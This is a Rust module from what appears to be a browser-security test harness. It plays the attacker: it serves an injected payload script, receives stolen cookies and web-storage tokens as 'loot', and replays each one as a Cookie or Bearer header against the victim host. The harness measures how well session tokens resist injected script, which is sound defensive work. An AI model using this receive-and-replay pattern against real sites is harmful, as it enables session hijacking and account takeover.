//! The attacker: serves the script that gets into the victim's page, takes in its loot, and tries that from another client.

use std::{collections::BTreeMap, time::Duration};

use actix_web::{
    HttpResponse,
    http::header::{self, HeaderName},
    web,
};
use serde::Deserialize;

use super::{
    hosts::Role,
    report::{Readable, ScriptReport},
    visit::{Lost, Visit},
};

/// What calls itself the client that shows the loot.
pub(super) const CLIENT: &str = "the attacker's own client";
const PAYLOAD: &str = include_str!("pages/payload.js");

/// `GET /{run}/payload.js`
pub(super) async fn payload(visit: Visit) -> Result<HttpResponse, Lost> {
    visit.only_at(Role::Attacker)?;
    Ok(HttpResponse::Ok().content_type("text/javascript; charset=utf-8").body(PAYLOAD))
}

/// What the script carries home.
#[derive(Deserialize)]
struct Loot {
    cookies: String,
    local: String,
    session: String,
    indexed: String,
    memory: String,
    after_overwriting: Vec<String>,
    after_removing: Vec<String>,
    after_shadowing: Vec<String>,
    after_shadowing_prefixed: Vec<String>,
    rode: u16,
}

/// `POST /{run}/loot`: compares it with what the victim had been given, and uses it.
pub(super) async fn loot(visit: Visit, body: web::Bytes) -> Result<HttpResponse, Lost> {
    visit.only_at(Role::Attacker)?;
    let loot: Loot = serde_json::from_slice(&body).map_err(|_| Lost::Unreadable)?;
    let run = &visit.run;
    let is = |shown: &str, place: &str| shown.strip_prefix(&run.token) == Some(place);
    let read = Readable {
        session_cookie: loot.cookies.contains(&run.secret),
        open_cookie: loot.cookies.contains(&format!("{}open=own", run.jar.prefix())),
        local_storage: is(&loot.local, ".local"),
        session_storage: is(&loot.session, ".session"),
        indexed_db: is(&loot.indexed, ".indexed"),
        memory: is(&loot.memory, ".memory"),
    };
    let replays = replay(&visit, &loot).await;
    let mut state = run.state();
    state.script = ScriptReport {
        read,
        after_overwriting: loot.after_overwriting,
        after_removing: loot.after_removing,
        after_shadowing: loot.after_shadowing,
        after_shadowing_prefixed: loot.after_shadowing_prefixed,
        rode: loot.rode,
        replays,
        ..std::mem::take(&mut state.script)
    };
    Ok(HttpResponse::NoContent().finish())
}

/// Shows the victim each thing that was read, from a client that is not the browser. No answer at all counts as 0.
async fn replay(visit: &Visit, loot: &Loot) -> BTreeMap<String, u16> {
    let mut replays = BTreeMap::new();
    let client = reqwest::Client::builder().no_proxy().timeout(Duration::from_secs(5)).user_agent(CLIENT);
    let Ok(client) = client.build() else { return replays };
    let host = visit.shared.hosts.origin(Role::Victim);
    let host = host.split_once("://").map_or("", |(_, host)| host);
    let bearer = |token: &str| (header::AUTHORIZATION, format!("Bearer {token}"));
    let shown: [(&str, (HeaderName, String)); 5] = [
        ("cookies", (header::COOKIE, loot.cookies.clone())),
        ("local_storage", bearer(&loot.local)),
        ("session_storage", bearer(&loot.session)),
        ("indexed_db", bearer(&loot.indexed)),
        ("memory", bearer(&loot.memory)),
    ];
    for (place, (name, value)) in shown {
        let url = format!("http://{}/{}/own/me", visit.shared.address, visit.run.id);
        let request = client.get(url).header("host", host).header(name.as_str(), value);
        let status = request.send().await.map_or(0, |answer| answer.status().as_u16());
        replays.insert(place.to_owned(), status);
    }
    replays
}
